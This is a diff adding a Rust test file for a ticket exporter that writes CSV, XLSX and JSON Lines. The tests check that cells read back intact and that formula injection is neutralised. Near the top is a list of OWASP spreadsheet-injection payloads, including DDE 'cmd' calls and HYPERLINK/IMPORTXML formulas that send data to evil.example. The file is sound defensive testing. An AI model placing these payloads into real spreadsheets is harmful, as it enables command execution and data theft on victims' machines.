@@ -1,0 +1,511 @@
+//! Files written, and read again by our own readers.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use jiff::tz::TimeZone;
+use proptest::prelude::*;
+use rust_xlsxwriter::{DocProperties, Note, Workbook};
+use serde_json::Value;
+
+use super::*;
+use crate::export::columns::Plan;
+use crate::record::Cell;
+use crate::source::{Input, InputOptions, Row, SheetChoice};
+use crate::systems::common::{Comment, CustomValue, Named};
+
+/// What runs in a spreadsheet program that takes it for a formula, after the list of OWASP.
+const ACTIVE: [&str; 12] = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "=1+1\";=1+1",
+    "＝1+1",
+    " =IMPORTXML(\"http://evil.example\",\"//a\")",
+];
+
+fn ticket(number: usize, text: &str) -> CommonTicket {
+    let named = |what: &str| {
+        Some(Named {
+            id: Some(format!("{what}-{number}")),
+            name: Some(text.to_owned()),
+            email: Some(text.to_owned()),
+        })
+    };
+    CommonTicket {
+        number: Some(format!("{number:06}")),
+        url: Some(format!(
+            "https://district.incidentiq.com/agent/tickets/{number}"
+        )),
+        title: Some(text.to_owned()),
+        description: Some(text.to_owned()),
+        state: named("state"),
+        priority: named("priority"),
+        requester: named("requester"),
+        assignee: named("assignee"),
+        team: named("team"),
+        place: named("place"),
+        category: named("category"),
+        devices: named("device").into_iter().collect(),
+        tags: vec![text.to_owned()],
+        custom: vec![CustomValue {
+            id: None,
+            name: Some("=Asset".to_owned()),
+            value: Value::from(text),
+        }],
+        comments: vec![Comment {
+            author: named("author"),
+            at: "2024-06-21T22:43:05Z".parse().ok(),
+            public: Some(true),
+            text: text.to_owned(),
+        }],
+        created: "2024-06-21T22:43:05Z".parse().ok(),
+        ..CommonTicket::new(SystemName::IncidentIq, format!("id-{number}"))
+    }
+}
+
+fn plan() -> Plan {
+    let field = crate::directory::CustomField {
+        id: "c-1".to_owned(),
+        name: "=Asset".to_owned(),
+        kind: crate::directory::CustomType::Text,
+        options: Vec::new(),
+        max_length: None,
+        required: false,
+    };
+    Plan::by_default(SystemName::IncidentIq, &[field], &TimeZone::UTC)
+}
+
+fn options(path: &Path) -> Options {
+    let format = match path.extension().and_then(|extension| extension.to_str()) {
+        Some("xlsx") => Format::Xlsx,
+        Some("jsonl") => Format::JsonLines,
+        _ => Format::Csv,
+    };
+    Options {
+        path: path.to_owned(),
+        format,
+        plan: Some(plan()),
+        about: About {
+            system: SystemName::IncidentIq,
+            source: "sandbox".to_owned(),
+            filter: "all tickets".to_owned(),
+            read_at: "2024-06-22T00:00:00Z".parse().unwrap(),
+        },
+        comments: false,
+        raw: false,
+        partition: None,
+        drop_columns: false,
+        carry_from: None,
+        wait: Duration::ZERO,
+        sheets: Vec::new(),
+    }
+}
+
+fn write(options: Options, tickets: &[CommonTicket]) -> Written {
+    let mut sink = create(options).unwrap();
+    for ticket in tickets {
+        sink.ticket(ticket).unwrap();
+    }
+    sink.finish().unwrap()
+}
+
+/// Every table of a file by its sheet: headings and rows of texts.
+fn read(path: &Path) -> Vec<(String, Vec<Vec<String>>)> {
+    let options = InputOptions {
+        guarded: true,
+        sheet: SheetChoice::All,
+        ..InputOptions::default()
+    };
+    let input = Input::open(&[path.to_path_buf()], &options).unwrap();
+    let mut tables: Vec<(String, Vec<Vec<String>>)> = input
+        .tables()
+        .iter()
+        .map(|table| {
+            (
+                table.sheet.as_deref().unwrap_or_default().to_owned(),
+                vec![table.header.written().to_vec()],
+            )
+        })
+        .collect();
+    for row in input.rows().unwrap() {
+        let (Row::Record(record) | Row::Fault(record, _)) = row.unwrap();
+        let texts = record
+            .cells
+            .iter()
+            .map(|cell| cell.text().into_owned())
+            .collect();
+        tables[record.table].1.push(texts);
+    }
+    tables
+}
+
+/// The texts of a ticket in the columns of the plan, as a reader must find them.
+fn expected(ticket: &CommonTicket, plan: &mut Plan) -> Vec<String> {
+    let mut cells = Vec::new();
+    plan.cells(ticket, &mut cells).unwrap();
+    let text = |cell: &crate::export::columns::Cell<'_>| match cell {
+        crate::export::columns::Cell::Empty => String::new(),
+        crate::export::columns::Cell::Text(text)
+        | crate::export::columns::Cell::Link { text, .. } => text.to_string(),
+        crate::export::columns::Cell::Number(number) => Cell::Number(*number).text().into_owned(),
+        crate::export::columns::Cell::Truth(truth) => truth.to_string(),
+        crate::export::columns::Cell::Time(at) => Cell::DateTime(at.civil()).text().into_owned(),
+    };
+    cells.iter().map(text).collect()
+}
+
+#[test]
+fn no_text_runs_and_every_cell_is_read_back() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut texts: Vec<String> = ACTIVE.iter().map(|text| (*text).to_owned()).collect();
+    texts.extend(
+        [
+            "0012",
+            "12345678901234567890",
+            "'=1",
+            "''",
+            "a\r\nb;c,\"d\"",
+            "_x0041_",
+            "\u{1}x",
+            "2024-06-21",
+            "TRUE",
+            "1e5",
+            " x ",
+        ]
+        .map(str::to_owned),
+    );
+    let tickets: Vec<CommonTicket> = texts
+        .iter()
+        .enumerate()
+        .map(|(at, text)| ticket(at + 99_995, text))
+        .collect();
+    for name in ["t.csv", "t.xlsx"] {
+        let path = dir.path().join(name);
+        let written = write(
+            Options {
+                comments: true,
+                ..options(&path)
+            },
+            &tickets,
+        );
+        assert_eq!(written.tickets, tickets.len() as u64);
+        assert_eq!(written.notes, [""; 0]);
+        let tables = read(&path);
+        let mut plan = plan();
+        for (ticket, row) in tickets.iter().zip(&tables[0].1[1..]) {
+            assert_eq!(row, &expected(ticket, &mut plan), "{name}");
+        }
+        assert_eq!(tables[0].1.len(), tickets.len() + 1);
+        assert!(tables[0].1[0].contains(&"=Asset".to_owned()), "{name}");
+    }
+    // In the file itself nothing begins with a sign of a formula.
+    for name in ["t.csv", "t.comments.csv"] {
+        let mut reader = ::csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_path(dir.path().join(name))
+            .unwrap();
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(!crate::source::guard::is_active(cell), "{name}: {cell:?}");
+            }
+        }
+    }
+    // In a workbook nothing but the links is a formula.
+    let columns: Vec<u32> = (1..plan().columns().len() as u32).collect();
+    assert!(!crate::source::has_formulas(&dir.path().join("t.xlsx"), "Tickets", &columns).unwrap());
+    assert!(crate::source::has_formulas(&dir.path().join("t.xlsx"), "Tickets", &[0]).unwrap());
+    let comments = read(&dir.path().join("t.xlsx"));
+    assert_eq!(comments[1].0, "Comments");
+    assert_eq!(comments[1].1[1][6], ACTIVE[0]);
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(48))]
+
+    #[test]
+    fn any_text_survives_a_csv(texts in proptest::collection::vec("['=+@\t\r\n\",;-]{0,3}\\PC{0,8}[\r\n\t '\"]{0,2}", 1..6)) {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("t.csv");
+        let tickets: Vec<CommonTicket> = texts.iter().enumerate().map(|(at, text)| ticket(at, text)).collect();
+        write(options(&path), &tickets);
+        let tables = read(&path);
+        let mut plan = plan();
+        for (ticket, row) in tickets.iter().zip(&tables[0].1[1..]) {
+            prop_assert_eq!(row, &expected(ticket, &mut plan));
+        }
+    }
+}
+
+/// A workbook as an earlier export left it, with a column that people added and one that the plan has no more.
+fn earlier(path: &Path, rows: &[(&str, &str)], more: impl FnOnce(&mut Workbook)) {
+    let mut workbook = Workbook::new();
+    let mut properties = DocProperties::new()
+        .set_custom_property("Deskferry", "1")
+        .set_custom_property("Deskferry sheet 1", "Tickets");
+    for (number, heading) in ["Ticket", "Ticket ID", "Gone"].iter().enumerate() {
+        properties = properties.set_custom_property(format!("Deskferry column {number}"), *heading);
+    }
+    workbook.set_properties(&properties);
+    let sheet = workbook.add_worksheet().set_name("Tickets").unwrap();
+    for (column, heading) in (0..).zip(["Ticket", "Remark", "Ticket ID", "Gone", "Until"]) {
+        sheet.write_string(0, column, heading).unwrap();
+    }
+    for (row, (id, remark)) in (1..).zip(rows) {
+        sheet.write_string(row, 1, *remark).unwrap();
+        sheet.write_string(row, 2, *id).unwrap();
+        sheet.write_string(row, 3, "stale").unwrap();
+    }
+    more(&mut workbook);
+    workbook.save(path).unwrap();
+}
+
+fn column(table: &[Vec<String>], heading: &str) -> Vec<String> {
+    let at = table[0]
+        .iter()
+        .position(|one| one == heading)
+        .unwrap_or_else(|| panic!("{heading} of {:?}", table[0]));
+    table[1..].iter().map(|row| row[at].clone()).collect()
+}
+
+#[test]
+fn what_people_wrote_stays_beside_its_ticket() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("t.xlsx");
+    earlier(
+        &path,
+        &[
+            ("id-2", "call back"),
+            ("id-1", ""),
+            ("id-9", "=left"),
+            ("", "no ticket"),
+        ],
+        |_| {},
+    );
+    let before = fs::read(&path).unwrap();
+    let tickets: Vec<CommonTicket> = (1..4).map(|number| ticket(number, "x")).collect();
+    let written = write(options(&path), &tickets);
+    assert_eq!(written.files, std::slice::from_ref(&path));
+    assert!(
+        written.notes[0].starts_with("2 earlier rows"),
+        "{:?}",
+        written.notes
+    );
+    assert_eq!(fs::read(dir.path().join("t.xlsx.bak")).unwrap(), before);
+    let tables = read(&path);
+    assert_eq!(column(&tables[0].1, "Remark"), ["", "call back", ""]);
+    assert!(
+        tables[0].1[0].contains(&"Until".to_owned())
+            && !tables[0].1[0].contains(&"Gone".to_owned())
+    );
+    assert_eq!(tables[1].0, "Earlier");
+    assert_eq!(column(&tables[1].1, "Remark"), ["=left", "no ticket"]);
+
+    // A ticket that comes back takes its text with it, and what was carried once is carried on.
+    let tickets: Vec<CommonTicket> = [2, 9].map(|number| ticket(number, "y")).into();
+    write(options(&path), &tickets);
+    let tables = read(&path);
+    assert_eq!(column(&tables[0].1, "Remark"), ["call back", "=left"]);
+    assert_eq!(column(&tables[1].1, "Remark"), ["no ticket"]);
+
+    // Into another file, and not at all.
+    let other = dir.path().join("u.csv");
+    write(
+        Options {
+            carry_from: Some(path.clone()),
+            ..options(&other)
+        },
+        &tickets,
+    );
+    assert_eq!(column(&read(&other)[0].1, "Remark"), ["call back", "=left"]);
+    assert_eq!(
+        column(&read(&dir.path().join("u.earlier.csv"))[0].1, "Remark"),
+        ["no ticket"]
+    );
+    write(options(&other), &tickets[..1]);
+    assert_eq!(
+        column(&read(&dir.path().join("u.earlier.csv"))[0].1, "Remark"),
+        ["=left", "no ticket"]
+    );
+    write(
+        Options {
+            drop_columns: true,
+            ..options(&path)
+        },
+        &tickets,
+    );
+    assert_eq!(read(&path)[0].1[0].len(), plan().columns().len());
+}
+
+#[test]
+fn a_workbook_with_more_than_rows_is_not_replaced() {
+    let dir = tempfile::tempdir().unwrap();
+    let tickets = [ticket(1, "x")];
+    let cases: [(&str, fn(&mut Workbook)); 3] = [
+        ("sheet `Mine`", |book| {
+            book.add_worksheet().set_name("Mine").unwrap();
+        }),
+        ("notes", |book| {
+            let sheet = book.worksheet_from_index(0).unwrap();
+            sheet.insert_note(1, 1, &Note::new("look")).unwrap();
+        }),
+        ("formulas", |book| {
+            let sheet = book.worksheet_from_index(0).unwrap();
+            sheet.write_formula(1, 4, "=1+1").unwrap();
+        }),
+    ];
+    for (number, (what, more)) in cases.into_iter().enumerate() {
+        let path = dir.path().join(format!("t{number}.xlsx"));
+        earlier(&path, &[("id-1", "r")], more);
+        let before = fs::read(&path).unwrap();
+        let written = write(options(&path), &tickets);
+        assert_eq!(
+            written.files,
+            [dir.path().join(format!("t{number}-2.xlsx"))]
+        );
+        assert!(written.notes[0].contains(what), "{:?}", written.notes);
+        assert_eq!(fs::read(&path).unwrap(), before);
+    }
+    // Neither is a file that is no export, nor one that is open.
+    for (name, content, lock) in [
+        ("other.csv", "A,B\n1,2\n", None),
+        ("open.csv", "Ticket ID\nid-1\n", Some("~$open.csv")),
+    ] {
+        let path = dir.path().join(name);
+        fs::write(&path, content).unwrap();
+        if let Some(lock) = lock {
+            fs::write(dir.path().join(lock), "").unwrap();
+        }
+        let written = write(options(&path), &tickets);
+        assert_ne!(written.files[0], path, "{name}");
+        assert_eq!(written.notes.len(), 1, "{:?}", written.notes);
+        assert_eq!(fs::read_to_string(&path).unwrap(), content);
+    }
+    let left: Vec<PathBuf> = fs::read_dir(dir.path())
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .collect();
+    assert!(
+        !left
+            .iter()
+            .any(|path| path.display().to_string().contains(".deskferry-")),
+        "{left:?}"
+    );
+}
+
+#[test]
+fn an_export_is_parted_into_files_and_sheets() {
+    let dir = tempfile::tempdir().unwrap();
+    // More parts than files may be open, each met more than once.
+    let tickets: Vec<CommonTicket> = (0..200)
+        .map(|number| ticket(number, &format!("Room/{}", number % 80)))
+        .collect();
+    let path = dir.path().join("t.csv");
+    let written = write(
+        Options {
+            partition: Some(Partition::Location),
+            ..options(&path)
+        },
+        &tickets,
+    );
+    assert_eq!((written.files.len(), written.tickets), (80, 200));
+    let one = read(&dir.path().join("t.Room-7.csv"));
+    assert_eq!(column(&one[0].1, "Ticket"), ["000007", "000087", "000167"]);
+    let path = dir.path().join("t.xlsx");
+    write(
+        Options {
+            partition: Some(Partition::Location),
+            ..options(&path)
+        },
+        &tickets,
+    );
+    let tables = read(&path);
+    assert_eq!((tables.len(), tables[7].0.as_str()), (80, "Room-7"));
+    assert_eq!(
+        column(&tables[7].1, "Ticket"),
+        ["000007", "000087", "000167"]
+    );
+}
+
+#[test]
+fn a_sheet_that_is_full_is_followed_by_another() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("t.xlsx");
+    let mut plan = plan();
+    let target = target::Target {
+        path: path.clone(),
+        foreign: None,
+        wait: Duration::ZERO,
+    };
+    let mut book = xlsx::Book::new(target, &plan);
+    book.most_rows = 3;
+    let headings: Vec<String> = plan
+        .columns()
+        .iter()
+        .map(|column| column.heading.clone())
+        .collect();
+    let long = "😀".repeat(20_000);
+    for number in 0..7 {
+        let ticket = ticket(number, &long);
+        let mut cells = Vec::new();
+        plan.cells(&ticket, &mut cells).unwrap();
+        book.row(&xlsx::Line {
+            rows: xlsx::Rows::Tickets,
+            part: "",
+            sheet: "Tickets",
+            headings: &headings,
+            cells: &cells,
+        })
+        .unwrap();
+    }
+    assert!(
+        book.cut.first.as_ref().unwrap().contains("000000"),
+        "{:?}",
+        book.cut
+    );
+    let whole = book
+        .finish(&plan, &options(&path).about, &headings, &[])
+        .unwrap();
+    whole.target.place(whole.file, &mut Vec::new()).unwrap();
+    let tables = read(&path);
+    let names: Vec<(&str, usize)> = tables
+        .iter()
+        .map(|(name, rows)| (name.as_str(), rows.len()))
+        .collect();
+    assert_eq!(names, [("Tickets", 4), ("Tickets 2", 4), ("Tickets 3", 2)]);
+    assert_eq!(tables[0].1[1][1].encode_utf16().count(), 32_766);
+}
+
+#[test]
+fn json_lines_are_whole_tickets_or_objects_by_heading() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("t.jsonl");
+    let tickets = [ticket(1, "=x")];
+    write(
+        Options {
+            plan: None,
+            ..options(&path)
+        },
+        &tickets,
+    );
+    let line: CommonTicket = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+    assert_eq!(line, tickets[0]);
+    write(
+        Options {
+            comments: true,
+            ..options(&path)
+        },
+        &tickets,
+    );
+    let object: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+    assert_eq!(object["Title"], "=x");
+    assert_eq!(object["Created"], "2024-06-21 22:43:05");
+    assert_eq!(object["comments"][0]["text"], "=x");
+}
